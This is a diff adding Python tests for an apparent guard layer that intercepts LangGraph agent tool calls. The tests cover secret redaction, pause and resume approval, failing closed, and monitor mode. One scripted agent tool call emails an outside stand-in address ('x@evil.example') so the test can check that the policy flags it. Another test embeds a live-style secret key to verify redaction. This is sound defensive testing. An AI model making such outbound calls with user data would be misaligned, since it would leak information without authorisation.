@@ -134,3 +134,82 @@ def test_without_thread_id_runs_in_one_session_of_its_own(guard: Guard, tools, r
     assert ran.count("lookup") == 1
     assert "no thread_id" in caplog.text
     assert guard.store.session_events(t.session_for({}).id)
+
+
+def test_breakpoint_shows_arguments_redacted(guard: Guard, tools, ran) -> None:
+    model = ScriptedModel(
+        script=[calls(("refund", {"order": "sk_live_51HxQ2eZvKYlo2C0aB3cD4eF5", "amount": 90}, "r1"))]
+    )
+    graph = state_graph(model, tools, Tether(guard, agent="support-bot"), InMemorySaver())
+    result = graph.invoke({"messages": [HumanMessage("refund")]}, THREAD)
+    [request] = result["__interrupt__"][0].value["requests"]
+    assert "sk_live_51HxQ2eZvKYlo2C0aB3cD4eF5" not in str(request)
+    assert request["args"]["amount"] == 90
+
+
+def test_async_breakpoint_and_resume(guard: Guard, tools, ran) -> None:
+    model = ScriptedModel(script=[calls(("refund", {"order": "A", "amount": 100}, "r1"))])
+    graph = state_graph(model, tools, Tether(guard, agent="support-bot"), InMemorySaver())
+
+    async def run() -> dict:
+        paused = await graph.ainvoke({"messages": [HumanMessage("refund")]}, THREAD)
+        assert paused["__interrupt__"] and ran.calls == []
+        return await graph.ainvoke(Command(resume="approve"), THREAD)
+
+    asyncio.run(run())
+    assert ran.count("refund") == 1
+    assert model.tool_replies()["r1"] == "refunded 100 on A"
+
+
+def test_unreadable_resume_value_denies(guard: Guard, tools, ran) -> None:
+    model = ScriptedModel(script=[calls(("refund", {"order": "A", "amount": 100}, "r1"))])
+    graph = state_graph(model, tools, Tether(guard, agent="support-bot"), InMemorySaver())
+    graph.invoke({"messages": [HumanMessage("refund")]}, THREAD)
+    graph.invoke(Command(resume="maybe later"), THREAD)
+    assert ran.calls == []
+    assert "could not be read" in model.tool_replies()["r1"]
+
+
+def test_tether_failing_stops_the_call(guard: Guard, tools, ran, monkeypatch) -> None:
+    def broken(*args: object, **kwargs: object) -> None:
+        raise RuntimeError("store unreachable")
+
+    monkeypatch.setattr(guard, "session", broken)
+    model = ScriptedModel(script=[calls(("lookup", {"ticket": "1"}, "c1"))])
+    with pytest.raises(RuntimeError, match="store unreachable"):
+        state_graph(model, tools, Tether(guard, agent="support-bot")).invoke({"messages": [HumanMessage("x")]}, THREAD)
+    assert ran.calls == []
+
+
+def test_monitor_mode_records_but_lets_calls_run(store, tools, ran) -> None:
+    from .conftest import POLICY
+
+    guard = Guard(POLICY, store=store, mode="monitor")
+    model = ScriptedModel(script=[calls(("send_email", {"to": "x@evil.example", "body": "b"}, "e1"))])
+    state_graph(model, tools, Tether(guard, agent="support-bot")).invoke({"messages": [HumanMessage("x")]}, THREAD)
+    assert ran.count("send_email") == 1
+    [decision] = [e for e in store.session_events("t-1") if e.kind == "tool.decision"]
+    assert decision.verdict == "deny" and decision.details["enforcement"] == "monitored"
+
+
+def test_agent_and_session_come_from_the_graph(store, tools, ran) -> None:
+    from langgraph.graph import START, MessagesState, StateGraph
+
+    from .conftest import POLICY
+
+    policy = {**POLICY, "agents": {"researcher": POLICY["agents"]["support-bot"]}}
+    guard = Guard(policy, store=store)
+    model = ScriptedModel(script=[calls(("lookup", {"ticket": "1"}, "c1"))])
+    inner = state_graph(model, tools, Tether(guard))  # no agent named: the hosting node names it
+    outer = StateGraph(MessagesState)
+    outer.add_node("researcher", inner)
+    outer.add_edge(START, "researcher")
+    outer.compile().invoke({"messages": [HumanMessage("x")]}, {"configurable": {"thread_id": "conv-9"}})
+    assert ran.count("lookup") == 1
+    [decision] = [e for e in store.session_events("conv-9") if e.kind == "tool.decision"]
+    assert (decision.agent, decision.verdict) == ("researcher", "allow")
+
+    model2 = ScriptedModel(script=[calls(("lookup", {"ticket": "2"}, "c2"))])
+    config = {"configurable": {"thread_id": "conv-10", "tether_agent": "researcher", "tether_session": "case-7"}}
+    state_graph(model2, tools, Tether(guard)).invoke({"messages": [HumanMessage("x")]}, config)
+    assert [e.agent for e in store.session_events("case-7") if e.kind == "tool.decision"] == ["researcher"]
